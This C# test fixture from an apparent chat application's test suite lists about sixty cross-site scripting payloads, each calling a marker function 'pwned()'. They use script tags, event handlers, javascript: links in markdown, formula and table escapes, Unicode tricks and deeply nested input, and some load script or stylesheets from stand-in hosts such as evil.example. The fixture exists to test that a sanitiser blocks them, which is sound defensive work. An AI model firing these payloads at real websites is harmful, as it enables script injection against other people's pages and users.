namespace AIGenerator.Tests.Chat;

/// <summary>
/// What people, models, files and sites may write in the hope that a page takes it for its own. Everything that would act calls or names
/// <c>pwned</c>, so that a test finds it wherever it ends up.
/// </summary>
internal static class HostileTexts
{
    /// <summary>The word that must never become an element, an attribute or a script.</summary>
    public const string Mark = "pwned";

    private const int Deep = 5_000;

    public static readonly IReadOnlyDictionary<string, string> All = new Dictionary<string, string>
    {
        ["script"] = "<script>pwned()</script>",
        ["script in capitals with a space"] = "<ScRiPt x>pwned()</sCrIpT >",
        ["script from elsewhere"] = "<script src=//evil.example/pwned.js></script>",
        ["picture that fails"] = "<img src=x onerror=pwned()>",
        ["picture without spaces"] = "<img/src='x'/onerror=pwned()//",
        ["drawing that loads"] = "<svg/onload=pwned()>",
        ["drawing with a script"] = "<svg><script>pwned()</script><a xlink:href=\"javascript:pwned()\"><text>x</text></a></svg>",
        ["drawing that animates"] = "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
        ["formula markup"] = "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=pwned()&gt;\">",
        ["frame"] = "<iframe srcdoc=\"<script>pwned()</script>\"></iframe><iframe src=javascript:pwned()>",
        ["object and embed"] = "<object data=javascript:pwned()><embed src=javascript:pwned()>",
        ["form"] = "<form action=javascript:pwned()><button formaction=javascript:pwned()>x</button></form>",
        ["autofocus"] = "<input autofocus onfocus=pwned()><details open ontoggle=pwned()>",
        ["base and refresh"] = "<base href=//pwned.example/><meta http-equiv=refresh content=\"0;url=javascript:pwned()\">",
        ["style"] = "<style>@import '//pwned.example/x.css';</style><link rel=stylesheet href=//pwned.example/x.css>",
        ["own element"] = "<pwned-element onclick=pwned()><live-answer data-generation=pwned>",
        ["body"] = "<body onload=pwned()><html onclick=pwned()>",
        ["end of script"] = "</script><script>pwned()</script>",
        ["end of textarea"] = "</textarea><img src=x onerror=pwned()>",
        ["end of title"] = "</title><img src=x onerror=pwned()>",
        ["end of style"] = "</style></noscript></template></select></option><img src=x onerror=pwned()>",
        ["end of everything"] = "</p></div></article></main></body></html><img src=x onerror=pwned()>",
        ["template of a page"] = "@{pwned()} {{pwned()}} ${pwned()} #{pwned()} <%= pwned() %>",
        ["end of a quoted attribute"] = "\" onmouseover=\"pwned()\" x=\"",
        ["end of a single quoted attribute"] = "' onmouseover='pwned()' x='",
        ["end of a bare attribute"] = "x onmouseover=pwned() `",
        ["backticks in an attribute"] = "`onmouseover=pwned()`",
        ["comment in data"] = "<!--<script>pwned()",
        ["data in a script"] = "</script><!--<script>\"],\"pwned\":[{\"\\u2028",
        ["data section"] = "<![CDATA[<img src=x onerror=pwned()>]]>",
        ["script address"] = "[x](javascript:pwned()) [x](JaVaScRiPt:pwned()) <javascript:pwned()>",
        ["script address with a tab"] = "[x](java\tscript:pwned()) [x](java&Tab;script:pwned()) [x](\u0001javascript:pwned())",
        ["script address in entities"] = "[x](&#106;&#x61;vascript&colon;pwned()) &lt;script&gt;pwned()&lt;/script&gt;",
        ["other script addresses"] = "[x](vbscript:pwned()) [x](data:text/html,<script>pwned()</script>) [x](DATA:text/html;base64,PHNjcmlwdD4=) [x](blob:pwned) [x](file:///pwned)",
        ["address that changes attributes"] = "[x](https://a.example/\"onmouseover=pwned()//) <https://a.example/'onclick=pwned()> https://a.example/\"><script>pwned()</script>",
        ["title of a link"] = "[x](https://a.example \"\\\"onmouseover=pwned() \") [x]: javascript:pwned() \"pwned\"",
        ["picture of ours"] = "![x\" onerror=\"pwned()](/api/assets/0199aaaa-bbbb-7ccc-8ddd-eeeeffff0000) ![x](/api/assets/0199aaaa-bbbb-7ccc-8ddd-eeeeffff0000/../pwned) ![x](//pwned.example/x.png) ![x](data:image/svg+xml,<svg/onload=pwned()>)",
        ["action of ours"] = "[x](/chat?pwned) ![x](/sign-out) [x](//pwned.example) [x](\\\\pwned.example)",
        ["language of code"] = "```\"><img src=x onerror=pwned()>\ncode\n```\n```js title=\"x\"onload=\"pwned()\"\n</code></pre><script>pwned()</script>\n```",
        ["formula"] = "$\\href{javascript:pwned()}{x}$ \\(\\htmlClass{pwned}{x}\\) \\[\\htmlData{pwned=pwned}{\\includegraphics{javascript:pwned()}}\\] $$\n\\url{javascript:pwned()}\n$$",
        ["formula that ends its place"] = "$</span><img src=x onerror=pwned()>$ \\(\\text{</annotation><script>pwned()</script>}\\)",
        ["table"] = "a|b\n-|-\n<td onclick=pwned()>|</table><script>pwned()</script>",
        ["footnote and alert"] = "[^\"onload=pwned()]: x\n[^x]: <script>pwned()</script>\n\n> [!NOTE\"onload=pwned()]\n> <p data-word=\"pwned\">",
        ["attributes of markdown"] = "# x {onclick=pwned() #pwned .pwned}\n\n[x]{.pwned onclick=pwned()}",
        ["direction turned around"] = "\u202E\u2066gnp.)(denwp\u2069\u202C<\u202Escript>pwned()</script>",
        ["characters of no width"] = "<\u200Bscript>pwned()</script>\uFEFF<scr\u00ADipt>pwned()</script>\u2060",
        ["control characters"] = "<scr\u0000ipt>pwned()</script>\u0008\u001B[2J\u007F\u0085\u009B<img\u000Csrc=x\u000Bonerror=pwned()>",
        ["nothing character"] = "\u0000<img src=\u0000x onerror=\u0000pwned()>",
        ["line separators"] = "x\u2028<script>pwned()</script>\u2029//\r\n<img src=x\ronerror=pwned()>",
        ["halves of characters"] = "\uD800<img src=x onerror=pwned()>\uDC00\uDFFF\uD83D",
        ["wide characters"] = "\uFF1Cscript\uFF1Epwned()\uFF1C/script\uFF1E \u2039img\u203A",
        ["deep quotes"] = new string('>', Deep) + "<script>pwned()</script>",
        ["deep lists"] = string.Concat(Enumerable.Repeat("- ", Deep)) + "<script>pwned()</script>",
        ["deep brackets"] = new string('[', Deep) + "x" + new string(']', Deep) + "(javascript:pwned())",
        ["deep elements"] = string.Concat(Enumerable.Repeat("<div>", Deep)) + "<script>pwned()</script>",
        ["deep data"] = new string('{', Deep) + "\"pwned\":1" + new string('}', Deep),
    };

    /// <summary>As the inside of a JSON string that keeps even halves of characters.</summary>
    public static string Json(string text) => string.Concat(text.Select(character => $"\\u{(int)character:x4}"));
}
